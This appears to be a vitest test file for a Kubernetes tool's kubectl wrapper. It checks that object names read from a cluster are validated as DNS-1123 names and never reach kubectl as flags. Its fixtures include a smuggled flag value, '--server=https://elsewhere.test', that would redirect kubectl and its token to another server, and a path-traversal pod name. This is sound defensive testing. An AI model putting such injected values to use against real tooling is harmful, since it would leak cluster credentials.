/**
 * Names read from the cluster never become kubectl flags. kubectl takes a word that looks like a flag for
 * one wherever it stands, and the API server does not check the names of references (a pod's
 * imagePullSecrets, an ownerReference): whoever may create a pod could otherwise make an admin's read-only
 * `plan -A` run `kubectl get secrets --server=https://elsewhere …` and send the kubeconfig's token there.
 */
import { describe, expect, it } from "vitest";
import type { Exec } from "../../../src/adapters/exec.js";
import type { ExecResult } from "../../../src/adapters/exec-result.js";
import { Kubectl } from "../../../src/adapters/kubectl.js";
import { isObjectName } from "../../../src/core/object-name.js";
import { ToolFailedError } from "../../../src/errors.js";
import { gather } from "../../../src/pipeline/gather.js";
import { digestOf, makePod } from "../../support/pods.js";

const flagLike = "--server=https://elsewhere.test";

/** A Kubectl that records every argv; `--raw` list pages answer `podJson`, anything else an empty List. */
function recordingKubectl(podJson = "") {
  const argvs: string[][] = [];
  const exec: Exec = async (_file, args, options = {}): Promise<ExecResult> => {
    argvs.push([...args]);
    const raw = args.includes("--raw");
    if (raw) {
      options.onStdout?.(
        `{"kind":"PodList","apiVersion":"v1","metadata":{"resourceVersion":"1"},"items":[${podJson}]}`,
      );
    }
    return { exitCode: 0, stdout: raw ? "" : '{"kind":"List","items":[]}', stderr: "", interrupted: false };
  };
  return { kubectl: new Kubectl(exec, "kubectl", { context: "prod" }), argvs };
}

const naming = (argvs: string[][], word: string) =>
  argvs.filter((argv) => argv.some((a) => a.includes(word)));

describe("a name no object can have never reaches kubectl", () => {
  it("reads: left out as missing (no object can be called so)", async () => {
    const { kubectl, argvs } = recordingKubectl();
    expect(await kubectl.getSecrets("shop", [flagLike])).toEqual([]);
    expect(await kubectl.getObject("replicasets.apps", flagLike, "shop")).toBeNull();
    await kubectl.getSecrets("shop", ["pull", flagLike]);
    expect(naming(argvs, "elsewhere")).toEqual([]);
    expect(argvs.some((argv) => argv.includes("pull"))).toBe(true);
  });

  it("changes: refused with a typed error, before any kubectl runs", async () => {
    const { kubectl, argvs } = recordingKubectl();
    const restart = { restartedAt: "2026-12-01T00:00:00Z", restartedFor: null };
    await expect(kubectl.deletePod("shop", flagLike, "uid", false)).rejects.toThrow(ToolFailedError);
    await expect(kubectl.evictPod("shop", "../../../nodes/n1", "uid", false)).rejects.toThrow(
      /no object can have that name/,
    );
    await expect(
      kubectl.patchRestartedAt("Deployment", "shop", flagLike, "7", restart, false),
    ).rejects.toThrow(ToolFailedError);
    expect(argvs).toEqual([]);
  });

  it("plan's gather: a pod's pull secret named like a flag is a warning, and no kubectl gets it", async () => {
    const pod = makePod({
      name: "web-a",
      namespace: "tenant",
      owner: { kind: "ReplicaSet", name: "web-1" },
      imagePullSecrets: [flagLike, "regcred"],
      containers: [{ name: "app", image: "nginx:latest", runningDigest: digestOf("v1") }],
    });
    const { kubectl, argvs } = recordingKubectl(JSON.stringify(pod));
    const gathered = await gather(kubectl, { allNamespaces: true }, { concurrency: 4 });
    expect(naming(argvs, "elsewhere")).toEqual([]);
    expect(naming(argvs, "regcred")).toHaveLength(1);
    expect(gathered.warnings).toContain(
      `namespace tenant names a pull secret "${flagLike}", which no Secret can be called: ignored`,
    );
  });
});

describe("isObjectName: a DNS-1123 subdomain, as the API server checks object names", () => {
  it.each(["web", "web-7d9c8b6f5-x2x9q", "a.b-c.d", "0", "x".repeat(253)])("%s is one", (name) => {
    expect(isObjectName(name)).toBe(true);
  });
  it.each(["", "-web", "web-", "Web", "a..b", "a/b", "--server=x", "web ", "x".repeat(254)])(
    "%j is not",
    (name) => {
      expect(isObjectName(name)).toBe(false);
    },
  );
});
